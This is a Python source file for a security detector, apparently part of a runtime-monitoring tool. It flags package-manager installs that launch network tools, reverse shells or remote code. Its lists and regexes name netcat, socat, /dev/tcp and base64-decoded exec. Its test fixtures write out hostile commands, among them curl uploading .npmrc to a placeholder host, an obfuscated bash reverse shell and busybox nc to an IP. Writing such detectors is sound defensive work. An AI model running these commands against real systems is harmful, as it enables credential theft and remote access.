"""RUN-055: while packages are installed, one of them starts a network tool, a reverse shell, or code that fetches code.

Install scripts compile and call git; that is what they are for. It does not depend on a container: developers' machines and
build steps are what such packages aim at.
"""

from __future__ import annotations

import re

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict, shell_interest
from periderm.engines.runtime.peers import Scope, host_of, scope
from periderm.engines.runtime.process import Process
from periderm.engines.runtime.scene import HOST, runs, scene
from periderm.engines.runtime.situation import called, code_readings, installing, may_be_told, tool_interest, words
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_LANGUAGE = words(
    """
    npm npx yarn pnpm pip pip3 pipx uv poetry gem bundle composer cargo cpan cpanm luarocks easy_install conda
    """
)
_RAW = words(
    """
    nc ncat netcat nc.openbsd nc.traditional socat telnet cryptcat scp sftp ftp tftp dig nslookup host drill
    """
)
_FETCH = frozenset({"curl", "wget", "aria2c"})
_ODD = re.compile(
    r"/dev/(tcp|udp)/|\b(nc|ncat|socat)\b|\|\s*(ba|da|z)?sh\b|base64\s+-\w*d|/dev/shm|/tmp/\.|mkfifo|chmod\s+\+?[0-7x]+\s+/tmp"
)
_CODE = re.compile(
    r"(exec|eval)\b.{0,60}(b64decode|Buffer\.from|fromhex|urlopen|base64)|(environ|process\.env).{0,200}(post|request|urlopen|connect)|"
    r"(post|request|urlopen|connect)\b.{0,200}(environ|process\.env)|\bdup2\b|pty\.spawn",
    re.DOTALL,
)
_SENDS = ("-d", "--data", "-F", "--form", "-T", "--upload-file", "--post-data", "--post-file", "--data-binary", "--json")


def _installer(context: Context) -> Process | None:
    """The language's package manager above, while it installs. The system's own scripts are signed and not meant."""
    process = installing(context)
    if process is None or process is context.process:
        return None
    what = programs.command(process.exe, process.argv)
    system = what.name not in _LANGUAGE and not programs.interpreter(what.name) and not what.name.startswith("pip3.")
    return None if system else process


def _judge(context: Context) -> Verdict | None:
    if context.event.kind is not EventKind.EXEC or context.process.runtime:
        return None
    severity = _severity(context)
    if severity is None:
        return None
    installer = _installer(context)
    if installer is None:
        return None
    name = " ".join(installer.argv[:3]) or programs.base(installer.exe)
    return Verdict(
        object=context.command.name,
        severity=severity,
        fill={"installer": name, "line": context.line[:120]},
        evidence={"installer": name},
    )


def _severity(context: Context) -> Severity | None:
    names, what = called(context), context.command
    if _RAW.intersection(names):
        return Severity.HIGH
    if _FETCH.intersection(names):
        url = next((a for a in what.arguments if "://" in a), "")
        sends = any(a.startswith(_SENDS) for a in what.arguments)
        bare = scope(host_of(url)) in (Scope.OUTSIDE, Scope.NEAR)
        return Severity.HIGH if sends or bare else Severity.MEDIUM
    if programs.is_shell(what) and not programs.script(what):
        return Severity.HIGH if any(_ODD.search(text) for text in code_readings(context)) else None
    if programs.interpreter(what.name) and not programs.script(what):
        return Severity.HIGH if any(_CODE.search(text) for text in code_readings(context)) else None
    return None


_NPM = (
    runs(2, 1, "/usr/bin/node", "node", "/usr/bin/npm", "install", "left-pad"),
    runs(3, 2, "/usr/bin/dash", "sh", "-c", "node preinstall.js"),
)

DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-055",
        title=Text("Run a network tool while a package is installed", "安装软件包时运行网络工具"),
        message=Text(
            "{installer} in {subject} led to: {line}",
            "{subject} 中的 {installer} 引发了：{line}",
        ),
        severity=Severity.HIGH,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Find out which package did it, take it out and change what secrets the process could read. Install with scripts "
            "switched off (`--ignore-scripts`, `--only-binary :all:`) and from a lock file with digests.",
            "查明是哪个软件包所为，将其移除，并更换该进程可读取的密钥。"
            "安装时关闭脚本（`--ignore-scripts`、`--only-binary :all:`），"
            "并使用带摘要的锁定文件。",
        ),
        techniques=("T1195.002", "T1059"),
        behaviours=(55,),
        fires=(
            Example(
                scene(*_NPM, runs(4, 3, "/usr/bin/curl", "curl", "-d", "@.npmrc", "https://h.example/")),
                "npm's hook sends a file",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/python3.11", "python3", "-m", "pip", "install", "requestss"),
                    runs(3, 2, "/usr/bin/python3.11", "python3", "-c", "exec(__import__('base64').b64decode('eA=='))"),
                ),
                "pip runs a setup that hides what it does",
            ),
            Example(scene(*_NPM, runs(4, 3, "/bin/busybox", "busybox", "nc", "10.1.1.1", "4")), "an applet of busybox"),
            Example(
                scene(
                    runs(20, 1, "/usr/bin/ruby3.1", "ruby", "/usr/bin/gem", "install", "x", on=HOST),
                    runs(21, 20, "/usr/bin/bash", "bash", "-c", "b''ash -i >& /dev/t'c'p/h/1 0>&1", on=HOST),
                ),
                "a gem on a developer's machine",
            ),
        ),
        quiet=(
            Example(scene(*_NPM, runs(4, 3, "/usr/bin/git", "git", "clone", "https://h.example/x")), "a dependency from git"),
            Example(scene(*_NPM, runs(4, 3, "/usr/bin/gcc-12", "gcc", "-c", "x.c")), "an extension is compiled"),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/node", "node", "/usr/bin/npm", "start"),
                    runs(3, 2, "/usr/bin/curl", "curl", "http://api/"),
                ),
                "npm starts an application that calls curl",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/apt-get", "apt-get", "install", "x"),
                    runs(3, 2, "/usr/bin/wget", "wget", "https://h.example"),
                ),
                "a script of the distribution",
            ),
        ),
    ),
    interests=(
        tool_interest(_RAW | _FETCH),
        shell_interest(actor=may_be_told),
        Interest(kinds=(EventKind.EXEC,), text=(r"(^|/)(python|perl|ruby|node|php)[0-9.]*$",), actor=may_be_told),
    ),
    judge=_judge,
)
